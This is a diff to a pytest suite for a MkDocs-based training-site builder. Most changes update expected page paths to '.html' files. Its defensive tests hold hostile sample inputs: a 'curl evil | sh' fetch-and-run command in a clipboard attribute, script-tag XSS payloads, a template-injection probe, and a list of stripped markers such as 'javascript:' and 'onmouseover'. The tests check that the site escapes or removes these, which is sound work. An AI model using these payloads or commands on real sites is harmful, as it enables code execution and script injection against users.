@@ -37,7 +37,7 @@ def test_mutuality_page_shows_every_activity_title_aim_and_prompt(reference_buil
     module_file, _ = load_module(MUTUALITY)
     assert module_file is not None
     module = module_file.module
-    page = squash(text_of(reference_build.page("modules/mutuality/index.html")))
+    page = squash(text_of(reference_build.page("modules/mutuality.html")))
     for activity in module.activities:
         assert squash(activity.title) in page
         assert squash(activity.aim) in page
@@ -51,9 +51,11 @@ def test_module_pages_are_in_the_nav_and_list_activities_in_the_toc(
     reference_build: Build,
 ) -> None:
     home = reference_build.page("index.html")
-    nav_link = '<a href="modules/mutuality/" class="md-nav__link"> <span class="md-ellipsis"> Mut'
+    nav_link = (
+        '<a href="modules/mutuality.html" class="md-nav__link"> <span class="md-ellipsis"> Mut'
+    )
     assert nav_link in squash(home)
-    page = reference_build.page("modules/mutuality/index.html")
+    page = reference_build.page("modules/mutuality.html")
     toc = page[page.index('data-md-component="toc"') :]
     toc = toc[: toc.index("</nav>")]
     assert 'href="#mutuality-both-give-both-receive"' in toc
@@ -66,7 +68,7 @@ def test_search_finds_activities_by_a_word_only_in_their_aim(reference_build: Bu
     entries = search_index(reference_build)
     for module_id, activity_id, word in found:
         hits = [e["location"] for e in entries if word in words(e["title"] + " " + e["text"])]
-        assert hits == [f"modules/{module_id}/#{activity_id}"], word
+        assert hits == [f"modules/{module_id}.html#{activity_id}"], word
 
 
 TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9-]*)\b([^>]*)>")
@@ -110,7 +112,7 @@ def test_built_site_loads_nothing_from_other_hosts(reference_build: Build) -> No
 def test_module_prose_with_escaped_braces_is_not_rendered_by_macros(tmp_path: Path) -> None:
     body = "\nWrite {% raw %}{{ 7*7 }}{% endraw %} to show braces.\n"
     build = strict_build_of(tmp_path, MINIMAL + body)
-    page = build.page("modules/listening/index.html")
+    page = build.page("modules/listening.html")
     assert "Write {{ 7*7 }} to show braces." in page
     assert "Write 49" not in page
 
@@ -145,7 +147,7 @@ def test_script_in_front_matter_comes_out_escaped_everywhere(tmp_path: Path) -> 
             assert "<script>alert" not in content, path
             assert "\\u003cscript\\u003ealert" not in content, path
             assert "&amp;lt;script" not in content, path  # escaped once, not twice
-    page = build.page("modules/listening/index.html")
+    page = build.page("modules/listening.html")
     assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; - " in page
     assert '<meta name="description" content="&#34;&gt;&lt;script&gt;alert(2)' in page or (
         '<meta name="description" content="&quot;&gt;&lt;script&gt;alert(2)' in page
@@ -175,7 +177,7 @@ def test_a_site_can_override_peerkit_templates(tmp_path: Path) -> None:
     )
     build = mkdocs_build(root, "--strict")
     assert build.returncode == 0, build.output
-    page = build.page("modules/listening/index.html")
+    page = build.page("modules/listening.html")
     assert '<section class="our-activity"><h2 id="listening-pairs">Listening in pairs</h2>' in page
     assert "<p>20 minutes at most</p>" in page
 
@@ -196,7 +198,8 @@ def test_docs_pages_link_module_cards_relative_to_themselves(tmp_path: Path) -> 
     (root / "docs" / "guide" / "index.md").write_text("# Guide\n\n{{ module_card('listening') }}\n")
     build = mkdocs_build(root)
     assert build.returncode == 0, build.output
-    assert '<a href="../modules/listening/">Listening well</a>' in build.page("guide/index.html")
+    guide = build.page("guide/index.html")
+    assert '<a href="../modules/listening.html">Listening well</a>' in guide
 
 
 def test_raw_html_in_module_prose_cannot_run_or_fetch(tmp_path: Path) -> None:
@@ -211,7 +214,7 @@ def test_raw_html_in_module_prose_cannot_run_or_fetch(tmp_path: Path) -> None:
         "<details><summary>Kept</summary>Still here.</details>\n"
     )
     build = strict_build_of(tmp_path, MINIMAL + prose)
-    page = build.page("modules/listening/index.html")
+    page = build.page("modules/listening.html")
     article = page[page.index('<article class="md-content__inner') :]
     for gone in ("alert(", "<iframe", "javascript:", "tracker.example", "onmouseover"):
         assert gone not in article
@@ -239,7 +242,7 @@ def test_prose_cannot_borrow_the_themes_scripts_or_layout(tmp_path: Path) -> Non
         '<span data-clipboard-text="curl evil | sh">Copy the number</span>\n'
     )
     build = strict_build_of(tmp_path, MINIMAL + prose)
-    article = build.page("modules/listening/index.html").split('<article class="md-content')[1]
+    article = build.page("modules/listening.html").split('<article class="md-content')[1]
     assert "<pre>graph LR; A--&gt;B</pre>" in article
     assert "<div>Sign in again</div>" in article
     assert "<span>Copy the number</span>" in article
@@ -276,11 +279,11 @@ def test_a_site_without_a_support_list_does_not_pass_strict(tmp_path: Path) -> N
 def test_the_guide_shows_the_configured_support_list_and_the_glossary_is_in_the_nav(
     reference_build: Build,
 ) -> None:
-    guide = reference_build.page("facilitator-guide/index.html")
+    guide = reference_build.page("facilitator-guide.html")
     assert '<h3 id="where-to-find-support">Where to find support</h3>' in guide
     for name in ("Samaritans", "Breathing Space", "NHS 24", "Shout"):
         assert f"<strong>{name}</strong>" in guide
-    assert 'href="../glossary/"' in guide
-    glossary = text_of(reference_build.page("glossary/index.html"))
+    assert 'href="glossary.html"' in guide
+    glossary = text_of(reference_build.page("glossary.html"))
     for term in ("CHIME", "HEAR ME", "Signposting", "Trauma-informed", "Dual role"):
         assert term in glossary
